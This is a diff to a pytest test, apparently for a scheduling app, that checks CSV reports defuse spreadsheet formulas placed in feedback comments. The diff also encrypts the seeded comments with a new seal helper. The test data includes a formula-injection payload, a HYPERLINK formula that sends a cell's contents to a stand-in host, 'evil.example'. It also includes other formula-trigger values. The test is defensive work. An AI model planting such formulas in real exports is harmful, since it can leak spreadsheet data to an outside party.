@@ -18,6 +18,7 @@ import pytest
 from slotease.analytics.reports import render
 from slotease.config import Settings
 from slotease.db.database import Database
+from slotease.kit import crypto
 from slotease.ops import maintenance
 from tests.analytics.arrange import (
     DAY_FIGURES,
@@ -30,7 +31,7 @@ from tests.analytics.arrange import (
 )
 from tests.auth.support import assert_problem, issue_api_key
 from tests.db.acting import ANONYMOUS, acting_as, as_user
-from tests.factories import Owner, make_user
+from tests.factories import Owner, make_user, seal
 from tests.notifications.support import run_jobs, worker_app
 
 pytestmark = pytest.mark.anyio
@@ -537,13 +538,15 @@ async def test_a_csv_report_runs_no_formula_from_a_comment(
     formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
     comments = {formula: "'" + formula, "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)"}
     rated = owner.execute(
-        "select id from public.feedback where organization_id = %s order by id", (t.org_a,)
+        "select id, appointment_id from public.feedback where organization_id = %s order by id",
+        (t.org_a,),
     ).fetchall()
     assert len(rated) >= len(comments)
     try:
-        for (feedback_id,), comment in zip(rated, comments, strict=False):
+        for (feedback_id, appointment_id), comment in zip(rated, comments, strict=False):
             owner.execute(
-                "update public.feedback set comment = %s where id = %s", (comment, feedback_id)
+                "update public.feedback set comment = %s where id = %s",
+                (seal(crypto.COMMENT, appointment_id, comment), feedback_id),
             )
         body = {
             "organization_id": str(t.org_a),
